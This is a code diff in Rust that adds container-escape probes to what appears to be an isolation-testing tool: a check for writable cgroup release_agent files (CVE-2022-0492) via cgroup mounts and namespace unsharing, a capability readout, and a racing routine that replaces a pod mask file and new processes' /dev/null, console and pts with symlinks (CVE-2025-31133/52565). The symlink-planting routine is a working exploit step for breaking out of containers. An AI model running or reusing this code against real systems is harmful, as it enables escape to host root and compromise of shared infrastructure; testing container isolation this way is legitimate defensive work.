@@ -95,8 +95,11 @@ pub fn peek(path: &str, marker: &str) -> std::io::Result<()> {
                 }
                 links.extend(std::fs::read_link(fd.path()).map(|link| format!("{number} {}", link.display())));
             }
+            let status = std::fs::read_to_string(at("status")).unwrap_or_default();
+            let permitted = status.lines().find_map(|line| line.strip_prefix("CapPrm:\t"));
             // It may have become another program meanwhile.
             if name() == before {
+                permitted.map_or(Ok(()), |set| say(format!("capabilities of {before} {set}")))?;
                 say(format!("seen {before} {pid}"))?;
                 links.into_iter().try_for_each(|link| say(format!("descriptor of {before} {pid}: {link}")))?;
             }
@@ -110,6 +113,85 @@ pub fn exchange(a: &str, b: &str, stop: &str) -> std::io::Result<()> {
     while !Path::new(stop).exists() {
         for _ in 0..1000 {
             rustix::fs::renameat_with(rustix::fs::CWD, a, rustix::fs::CWD, b, rustix::fs::RenameFlags::EXCHANGE)?;
+        }
+    }
+    Ok(())
+}
+
+/// CVE-2022-0492: tries every way to a `release_agent`, which the kernel would run as the host's root. Says how far each
+/// has come; where it could be written to, what was there is written again.
+pub fn release_agent() -> std::io::Result<Vec<String>> {
+    let mut found: Vec<String> = ["/sys/fs/cgroup", "/proc/1/root/sys/fs/cgroup"]
+        .iter()
+        .flat_map(|dir| std::fs::read_dir(dir).into_iter().flatten().flatten())
+        .map(|entry| entry.path().join("release_agent"))
+        .filter_map(|file| agent(&file).map(|how| format!("{how} {}", file.display())))
+        .collect();
+    for way in ["here", "unshared"] {
+        let out = std::process::Command::new("/probe").args(["mount-cgroups", way]).output()?;
+        let lines = String::from_utf8_lossy(&out.stdout).into_owned();
+        found.extend(lines.lines().filter(|line| !line.is_empty()).map(|line| format!("{line} {way}")));
+    }
+    Ok(found)
+}
+
+/// Mounts every hierarchy of cgroups, and a new one, in namespaces of its own or not, and looks for their agents.
+pub fn mount_cgroups(way: &str) -> Vec<String> {
+    use nix::mount::{MsFlags, mount, umount};
+    use nix::sched::{CloneFlags, unshare};
+
+    let cgroups = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
+    let mut hierarchies: Vec<&str> = cgroups.lines().filter_map(|line| line.split(':').nth(1)).collect();
+    hierarchies.push("none,name=escape");
+    if way == "unshared" {
+        let namespaces = CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWCGROUP;
+        if unshare(namespaces).is_err() {
+            return Vec::new();
+        }
+    }
+    let mut found = Vec::new();
+    for hierarchy in hierarchies.into_iter().filter(|name| !name.is_empty()) {
+        let at = Path::new("/tmp");
+        if mount(Some("cgroup"), at, Some("cgroup"), MsFlags::empty(), Some(hierarchy)).is_ok() {
+            found.push(format!("{} {hierarchy}", agent(&at.join("release_agent")).unwrap_or("mounted")));
+            found.extend(umount(at).err().map(|errno| format!("umount: {errno}")));
+        }
+    }
+    found
+}
+
+/// Whether a `release_agent` can be written to.
+fn agent(file: &Path) -> Option<&'static str> {
+    let now = std::fs::read_to_string(file).ok()?;
+    let mut file = OpenOptions::new().write(true).open(file).ok()?;
+    Some(if file.write_all(now.as_bytes()).is_ok() { "wrote" } else { "opened" })
+}
+
+/// CVE-2025-31133 and -52565: puts links to `target` in the place of all that masks and consoles are made of, in the pod
+/// and in every process that appears.
+pub fn plant(target: &str, stop: &str) -> std::io::Result<()> {
+    let root_of = |pid: &str| {
+        let stat = std::fs::metadata(format!("/proc/{pid}/root")).ok()?;
+        Some((std::os::unix::fs::MetadataExt::dev(&stat), std::os::unix::fs::MetadataExt::ino(&stat)))
+    };
+    let pods = root_of("1");
+    let mut planted = 0_u32;
+    while !Path::new(stop).exists() {
+        let load = std::fs::read_to_string("/proc/loadavg")?;
+        let newest: u32 = load.split_whitespace().last().and_then(|word| word.parse().ok()).unwrap_or_default();
+        let pod = ["/proc/1/root/run/stage1/mask-file".to_owned()];
+        // Without the pod's own devices nothing would be started any more.
+        let new = (newest..newest + 3)
+            .filter(|pid| root_of(&pid.to_string()).is_some_and(|root| Some(root) != pods))
+            .flat_map(|pid| ["null", "console", "pts"].map(|name| format!("/proc/{pid}/root/dev/{name}")));
+        for place in pod.into_iter().chain(new) {
+            if std::fs::read_link(&place).is_ok() || std::fs::remove_file(&place).is_err() {
+                continue;
+            }
+            planted += u32::from(std::os::unix::fs::symlink(target, &place).is_ok());
+            if planted == 1 {
+                std::fs::write(format!("{stop}.planted"), place)?;
+            }
         }
     }
     Ok(())
